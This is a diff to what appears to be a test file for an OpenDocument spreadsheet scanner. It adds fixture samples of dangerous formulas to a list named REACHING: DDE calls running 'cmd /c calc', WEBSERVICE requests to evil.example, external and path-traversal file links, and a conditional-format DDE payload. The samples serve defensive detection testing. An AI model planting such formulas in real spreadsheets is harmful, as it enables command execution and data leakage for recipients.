@@ -16,6 +16,7 @@ CONTENT = f'<o:document-content xmlns:o="{OFFICE}"><o:scripts/><o:body>內容</o
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
 _MANIFEST_NS = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
 LOCKED_MANIFEST = f'<m:manifest xmlns:m="{_MANIFEST_NS}"><m:file-entry m:full-path="content.xml"><m:encryption-data/></m:file-entry></m:manifest>'
+CALCEXT = "urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0"
 _NAMESPACES = " ".join(
     f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{full}:1.0"'
     for name, full in (
@@ -124,6 +125,11 @@ REACHING = [
     formula("msoxl:=cmd|&apos;/c calc&apos;!A0"),
     formula('of:=WEBSERVICE("http://evil.example/")'),
     formula("of:=&apos;file:///c:/x.ods&apos;#$a.A1"),
+    formula("of:=[&apos;x.ods&apos;#$a.A1]*2"),
+    formula('of:=[&apos;../share/x.ods&apos;#a.A1]&amp;"是"'),
+    content("<table:named-expression table:expression='of:=WEBSERVICE(\"http://evil.example/\")'/>"),
+    content('<table:named-range table:cell-range-address="&apos;file:///c:/x.ods&apos;#$a.$A$1"/>'),
+    content(f'<c:condition xmlns:c=\'{CALCEXT}\' c:value=\'formula-is(DDE("cmd";"/c calc";"x"))\'/>'),
 ]
 
 
